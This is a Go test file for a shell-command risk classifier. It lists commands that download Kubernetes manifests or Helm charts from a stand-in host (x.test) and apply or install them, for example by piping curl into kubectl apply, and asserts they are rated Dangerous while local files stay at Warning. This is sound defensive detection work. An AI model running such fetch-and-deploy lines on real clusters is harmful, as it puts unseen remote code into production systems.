package classify

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

// TestAttackS29ClusterFromADownload: kubectl apply -f URL and helm
// install of a chart from a URL are Dangerous (what the cluster runs
// comes from wherever the URL points, unseen). The same manifests piped
// from a downloader (curl URL | kubectl apply -f -), given as a process
// substitution of one, or saved by one on the line (or held by a
// repository the line cloned), and a chart of a repository the line
// itself added from a URL (helm repo add x URL && helm install r
// x/chart), were Warning. Each is Dangerous now; local manifests and
// charts, and a repository added but not installed from, stay Warning.
func TestAttackS29ClusterFromADownload(t *testing.T) {
	attackAtLeast(t, Dangerous, []string{
		`curl https://x.test/a.yaml | kubectl apply -f -`,
		`curl -sL https://x.test/a.yaml | kubectl create -f -`,
		`wget -qO- https://x.test/a.yaml | kubectl apply -f -`,
		`curl https://x.test/a.yaml | kubectl -n x apply --filename=-`,
		`curl https://x.test/a.yaml | kubectl apply -f /dev/stdin`,
		`curl https://x.test/a.yaml | kubectl replace --force -f -`,
		`kubectl apply -f <(curl -s https://x.test/a.yaml)`,
		`kubectl apply -f - < <(curl -s https://x.test/a.yaml)`,
		`kubectl apply -f - <<< "$(curl -s https://x.test/a.yaml)"`,
		`curl -o a.yaml https://x.test/a.yaml && kubectl apply -f a.yaml`,
		`wget https://x.test/a.yaml && kubectl apply -f a.yaml`,
		`git clone https://x.test/r && kubectl apply -f r/deploy.yaml`,
		`git clone https://x.test/r && kubectl apply -k r/overlays/prod`,
		`helm repo add x https://x.test/charts && helm install r x/chart`,
		`helm repo add x https://x.test/charts; helm upgrade --install r x/chart`,
		`helm repo add x https://x.test/charts && helm repo update && helm install r x/chart -n y`,
		`curl -o c.tgz https://x.test/c.tgz && helm install r ./c.tgz`,
		`git clone https://x.test/r && helm install x ./r/chart`,
		`curl https://x.test/v.yaml | helm install r ./chart -f -`,
		`helm install r ./chart --values <(curl -s https://x.test/v.yaml)`,
		// Already Dangerous: the one-step spellings.
		`kubectl apply -f https://x.test/a.yaml`,
		`helm install r c --repo https://x.test/charts`,
	})
	for _, l := range []string{
		`kubectl apply -f deploy.yaml`,
		`kubectl apply -f k8s/`,
		`cat deploy.yaml | kubectl apply -f -`,
		`kubectl apply -f - <<< "$(cat deploy.yaml)"`,
		`curl https://x.test/health && kubectl apply -f deploy.yaml`,
		`helm install r ./chart`,
		`helm repo add x https://x.test/charts`,
		`helm repo add x https://x.test/charts && helm repo update`,
		`helm repo add x https://x.test/charts && helm install r y/chart`,
		`helm install x bitnami/nginx`,
		`helm repo add x https://x.test/charts && helm search repo x`,
	} {
		v := Classify(l)
		assert.Less(t, v.Level, Dangerous, "%q: %v", l, v.Reasons)
	}
	for _, l := range []string{`kubectl apply -f deploy.yaml`, `helm install r ./chart`} {
		assert.Equal(t, Warning, Classify(l).Level, l)
	}
}
